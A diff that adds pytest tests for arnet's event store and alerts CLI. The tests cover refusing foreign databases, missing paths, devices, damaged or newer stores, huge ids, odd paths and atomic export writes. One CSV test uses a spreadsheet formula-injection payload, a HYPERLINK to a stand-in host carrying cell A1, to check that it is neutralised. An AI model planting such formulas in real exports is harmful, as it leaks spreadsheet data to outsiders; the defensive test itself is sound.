@@ -154,3 +154,226 @@ def test_postgresql_store(postgres_server: str) -> None:  # noqa: F811
         exercise(store)
     with open_store(url) as store:
         assert store.alerts()[1] == 2
+
+
+# ---------------------------------------------------------------------- readers never write
+
+
+def _journal_mode(path: Path) -> str:
+    import sqlite3
+
+    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as conn:
+        return conn.execute("PRAGMA journal_mode").fetchone()[0]
+
+
+def _one_line(capsys) -> str:  # noqa: ANN001
+    err = capsys.readouterr().err.strip()
+    assert len(err.splitlines()) == 1 and "Traceback" not in err, err
+    return err
+
+
+def test_readers_never_create_migrate_or_change_a_database(tmp_path: Path, capsys) -> None:  # noqa: ANN001
+    import sqlite3
+
+    from arnet.cli import main
+
+    other = tmp_path / "other.sqlite"  # another program's database, in its own journal mode
+    with sqlite3.connect(other) as conn:
+        conn.execute("CREATE TABLE invoices (id INTEGER PRIMARY KEY, total REAL)")
+        conn.execute("INSERT INTO invoices (total) VALUES (9.5)")
+    before = other.read_bytes()
+    for argv in (
+        ["alerts", "--db", str(other)],
+        ["alerts", "--db", str(other), "--ack", "1"],
+        ["alerts", "--db", str(other), "--format", "csv"],
+    ):
+        assert main(argv) == 2
+        line = _one_line(capsys)
+        assert "other.sqlite: not an arnet event store" in line and "invoices" in line, line
+    assert other.read_bytes() == before and _journal_mode(other) == "delete"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["other.sqlite"]
+    # a mistyped path is refused, never created, by a listing and by an acknowledgement
+    for argv in (["alerts", "--db", str(tmp_path / "typo.db")], ["alerts", "--ack", "1", "--db",
+                 str(tmp_path / "typo.db")]):  # fmt: skip
+        assert main(argv) == 2
+        assert "typo.db: no such event store" in _one_line(capsys)
+    assert not (tmp_path / "typo.db").exists()
+    # nor does the store API's reader
+    with pytest.raises(StoreError, match="not an arnet event store"):
+        open_store(other, "read")
+    with pytest.raises(StoreError, match="no such event store"):
+        open_store(tmp_path / "nothere.db", "read")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["other.sqlite"]
+
+
+def test_a_writer_refuses_another_programs_database_and_devices(tmp_path: Path) -> None:
+    import sqlite3
+
+    other = tmp_path / "other.sqlite"
+    with sqlite3.connect(other) as conn:
+        conn.execute("CREATE TABLE invoices (id INTEGER PRIMARY KEY)")
+    before = other.read_bytes()
+    with pytest.raises(StoreError, match="tables of another program: invoices"):
+        open_store(other)
+    assert other.read_bytes() == before and _journal_mode(other) == "delete"
+    journal = Path("/dev/null-journal")
+    existed = journal.exists()
+    with pytest.raises(StoreError, match="/dev/null: a device or special file, not an event"):
+        open_store("/dev/null")
+    assert journal.exists() == existed
+    with pytest.raises(StoreError, match="a folder, not an event store file"):
+        open_store(tmp_path)
+
+
+def test_a_store_missing_a_table_or_of_a_newer_arnet_is_one_line(tmp_path: Path, capsys) -> None:  # noqa: ANN001
+    import sqlite3
+
+    from arnet.cli import main
+
+    db = tmp_path / "e.db"
+    with open_store(db) as store:
+        store.register_camera("gate", "x")
+    with sqlite3.connect(db) as conn:
+        conn.execute("DROP TABLE acknowledgements")
+        conn.execute("DROP TABLE alerts")
+    for argv in (["alerts", "--db", str(db)], ["alerts", "--db", str(db), "--ack", "1"]):
+        assert main(argv) == 2
+        assert "e.db: a damaged event store: its table(s) alerts, acknowledgements are" in (
+            _one_line(capsys)
+        )
+    with pytest.raises(StoreError, match="a damaged event store"):
+        open_store(db)  # a writer does not recreate them over the data that is left
+    newer = tmp_path / "newer.db"
+    with open_store(newer):
+        pass
+    with sqlite3.connect(newer) as conn:
+        conn.execute("UPDATE arnet_store_version SET version_num = '9999'")
+    assert main(["alerts", "--db", str(newer)]) == 2
+    assert "revision 9999, made by a newer arnet" in _one_line(capsys)
+
+
+def test_huge_ids_and_pages_are_answers_not_tracebacks(tmp_path: Path, capsys) -> None:  # noqa: ANN001
+    from arnet.cli import main
+
+    db = tmp_path / "e.db"
+    with open_store(db) as store:
+        cam = store.register_camera("gate", "x")
+        store.commit_segments(cam["id"], _segments(0, 4), [_alert(1, 2, "closed")])
+        assert store.alert(10**20) is None and store.alert_image(-(10**20)) is None
+        with pytest.raises(KeyError):
+            store.acknowledge(10**20)
+        assert store.alerts(offset=10**20)[0] == [] and store.alerts(limit=10**20)[1] == 1
+        assert store.scores("gate", since_segment=10**20) == []
+        assert len(store.scores("gate", limit=10**20)) == 4
+    huge = "99999999999999999999"
+    assert main(["alerts", "--db", str(db), "--ack", huge]) == 2
+    assert f"--ack {huge}: no such alert" in _one_line(capsys)
+    assert main(["alerts", "--db", str(db), "--limit", huge]) == 0
+    assert capsys.readouterr().out.startswith("1 of 1 alert(s)")
+    assert main(["alerts", "--db", str(db), "--offset", huge]) == 0
+    assert capsys.readouterr().out.startswith("0 of 1 alert(s)")
+
+
+def test_an_unknown_camera_or_no_time_is_named(tmp_path: Path, capsys) -> None:  # noqa: ANN001
+    from arnet.cli import main
+
+    with pytest.raises(SystemExit) as stop:
+        main(["alerts", "--db", str(tmp_path / "e.db"), "--since", "nan"])
+    assert stop.value.code == 2 and "argument --since: not a time: 'nan'" in _one_line(capsys)
+
+    db = tmp_path / "e.db"
+    with open_store(db) as store:
+        store.register_camera("gate", "x")
+        store.register_camera("yard", "y")
+    assert main(["alerts", "--db", str(db), "--camera", "nosuch"]) == 2
+    assert "--camera nosuch: no such camera in" in (line := _one_line(capsys))
+    assert "its cameras: gate, yard" in line
+
+
+def test_the_alerts_csv_neutralises_names_written_through_the_api(tmp_path: Path, capsys) -> None:  # noqa: ANN001
+    import csv
+
+    from arnet.cli import main
+
+    db = tmp_path / "e.db"
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    with open_store(db) as store:
+        cam = store.register_camera(evil, "x")
+        store.commit_segments(cam["id"], _segments(0, 2), [_alert(0, 1, "closed")])
+    assert main(["alerts", "--db", str(db), "--format", "csv"]) == 0
+    (row,) = csv.DictReader(capsys.readouterr().out.splitlines())
+    assert row["camera"] == "'" + evil and row["peak_score"] == "0.9"
+
+
+def _store_at(path: Path, revision: str) -> None:
+    """A SQLite store as an earlier arnet left it: migrated up to `revision` only."""
+    from alembic import command
+
+    from arnet.store.engine import _script, create_engine, make_url
+
+    engine = create_engine(make_url(path))
+    config, _ = _script()
+    with engine.begin() as conn:
+        config.attributes["connection"] = conn
+        command.upgrade(config, revision)
+    engine.dispose()
+
+
+def test_readers_read_a_store_of_the_first_revision_as_it_is(tmp_path: Path, capsys) -> None:  # noqa: ANN001
+    import sqlite3
+
+    from arnet.cli import main
+
+    db = tmp_path / "old.db"
+    _store_at(db, "0001")
+    with sqlite3.connect(db) as conn:
+        conn.execute(
+            "INSERT INTO cameras (name, source, state, next_segment, next_frame, created, "
+            "updated) VALUES ('gate', 'x', 'stopped', 4, 64, 0, 0)"
+        )
+    assert main(["alerts", "--db", str(db)]) == 0
+    assert capsys.readouterr().out.startswith("0 of 0 alert(s)")
+    with open_store(db, "read") as store:
+        assert store.camera("gate")["next_frame"] == 64
+    with sqlite3.connect(db) as conn:
+        assert conn.execute("SELECT version_num FROM arnet_store_version").fetchone()[0] == "0001"
+    with open_store(db) as store:  # a watcher migrates it: the read position is the frame count
+        claim = store.claim_camera("gate", "x", _holder())
+        assert claim.camera["source_position"] == 64 and claim.previous_source == "x"
+
+
+def _holder(**changes):  # noqa: ANN003, ANN202
+    from dataclasses import replace
+
+    from arnet.store.events import Holder
+
+    return replace(Holder.this_process("test"), **changes)
+
+
+def test_an_export_file_that_appears_while_it_is_written_is_kept(tmp_path: Path) -> None:
+    from arnet.atomic import write_atomic
+
+    target = tmp_path / "alerts.csv"
+
+    def write(f) -> None:  # noqa: ANN001
+        target.write_text("another program's")  # appears between the check and the rename
+        f.write(b"mine")
+
+    with pytest.raises(FileExistsError):
+        write_atomic(target, write, replace=False)
+    assert target.read_text() == "another program's"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["alerts.csv"]  # no temporary left
+    write_atomic(tmp_path / "new.csv", lambda f: f.write(b"mine"), replace=False)
+    assert (tmp_path / "new.csv").read_bytes() == b"mine"
+
+
+def test_a_path_is_a_path_question_marks_and_all(tmp_path: Path) -> None:
+    odd = tmp_path / "events?v=2#main %20.db"
+    with open_store(odd) as store:
+        store.register_camera("gate", "x")
+        assert store.url == f"sqlite:///{odd}"
+    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix == ".db") == [odd.name]
+    with open_store(odd, "read") as store:
+        assert [c["name"] for c in store.cameras()] == ["gate"]
+    with pytest.raises(StoreError, match="no such event store"):
+        open_store(tmp_path / "events", "read")  # the part before "?" is no store
